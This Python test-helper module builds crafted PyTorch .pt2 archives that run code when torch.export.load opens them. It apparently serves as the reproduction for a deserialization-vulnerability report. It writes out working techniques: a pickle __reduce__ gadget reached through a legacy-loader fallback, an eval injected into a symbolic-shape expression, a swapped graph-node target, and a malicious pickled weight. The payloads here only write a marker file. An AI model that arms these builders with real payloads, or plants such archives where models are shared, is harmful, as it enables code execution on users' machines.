"""Builders for crafted ``.pt2`` archives that run code when torch.export.load reads them.

Each payload writes a file when it runs: the tests check that the file never appears.
``tests/data/legacy_bypass.pt2`` is :func:`legacy_bypass` written to disk (its payload writes
``PWNED.txt`` in the working directory), kept as the reproduction file of the report.
"""

from __future__ import annotations

import io
import json
import pickle
import re
import zipfile
from pathlib import Path

import torch


class WritesAFile:
    """Unpickling this creates ``target``: the proof that code in the file ran."""

    def __init__(self, target: str) -> None:
        self.target = target

    def __reduce__(self):
        return (Path.write_text, (Path(self.target), "pwned"))


def export_plain(path: Path, dynamic: bool = True) -> Path:
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU())
    shapes = ({0: torch.export.Dim("batch")},) if dynamic else None
    torch.export.save(torch.export.export(model, (torch.randn(2, 4),), dynamic_shapes=shapes),
                      str(path))
    return path


def legacy_bypass(path: Path, marker: str, program: Path) -> Path:
    """A top-level ``version`` entry plus ``meta/archive_format``: the new loader raises on the
    mixed layout, torch.export.load falls back to its torch <= 2.7 loader, which unpickles
    ``serialized_constants.json`` (a protocol-0 pickle: text that no magic-number check sees).
    ``program`` is a plain archive whose graph the crafted one carries."""
    with zipfile.ZipFile(program) as plain:
        graph = next(plain.read(n) for n in plain.namelist() if n.endswith("models/model.json"))
    payload = pickle.dumps(WritesAFile(marker), protocol=0)
    inputs = io.BytesIO()
    torch.save(((torch.zeros(1, 4),), {}), inputs)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("version", ".".join(map(str, _schema_version())))
        archive.writestr("meta/archive_format", "pt2")
        archive.writestr("serialized_exported_program.json", graph)
        archive.writestr("serialized_state_dict.json", payload)
        archive.writestr("serialized_constants.json", payload)
        archive.writestr("serialized_example_inputs.pt", inputs.getvalue())
    return path


def _schema_version() -> tuple[int, ...]:
    from torch._export.serde.schema import SCHEMA_VERSION

    return tuple(SCHEMA_VERSION)


def rewrite(src: Path, dst: Path, edit) -> Path:
    """Copy an archive, passing each entry's (name, bytes) through ``edit``."""
    with zipfile.ZipFile(src) as source, zipfile.ZipFile(dst, "w") as target:
        for item in source.infolist():
            target.writestr(item, edit(item.filename, source.read(item.filename)))
    return dst


def shape_expression_runs(src: Path, dst: Path, marker: str) -> Path:
    """A symbolic-shape expression the deserializer hands to ``sympy.sympify``, which evals."""
    code = f"__import__('pathlib').Path('{marker}').write_text('x')"

    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith("models/model.json"):
            return data
        text, count = re.subn(r'"expr_str": "[^"]*"', f'"expr_str": "{code}"', data.decode())
        assert count, "the program has no symbolic shape to tamper with"
        return text.encode()

    return rewrite(src, dst, edit)


def graph_calls(src: Path, dst: Path, target: str) -> Path:
    """A graph node whose target is ``target`` (resolved with getattr from ``torch``)."""

    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith("models/model.json"):
            return data
        text, count = re.subn(r'"target": "torch\.ops\.aten\.\w+\.\w+"',
                              f'"target": "{target}"', data.decode(), count=1)
        assert count
        return text.encode()

    return rewrite(src, dst, edit)


def pickled_weight(src: Path, dst: Path, marker: str) -> Path:
    """The first weight marked ``use_pickle`` and replaced by a pickle that writes a file."""
    state: dict[str, str] = {}

    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("_weights_config.json"):
            config = json.loads(data)
            first = next(iter(config["config"].values()))
            first["use_pickle"] = True
            state["weight"] = first["path_name"]
            return json.dumps(config).encode()
        return data

    rewrite(src, dst, edit)
    evil = io.BytesIO()
    torch.save({"w": WritesAFile(marker)}, evil, pickle_protocol=2)
    with zipfile.ZipFile(dst) as archive:
        entries = [(i, archive.read(i.filename)) for i in archive.infolist()]
    with zipfile.ZipFile(dst, "w") as archive:
        for item, data in entries:
            if item.filename.endswith(f"data/weights/{state['weight']}"):
                data = evil.getvalue()
            archive.writestr(item, data)
    return dst


def with_entry(src: Path, dst: Path, name: str, data: bytes) -> Path:
    rewrite(src, dst, lambda _name, d: d)
    root = zipfile.ZipFile(src).namelist()[0].split("/", 1)[0]
    with zipfile.ZipFile(dst, "a") as archive:
        archive.writestr(f"{root}/{name}", data)
    return dst
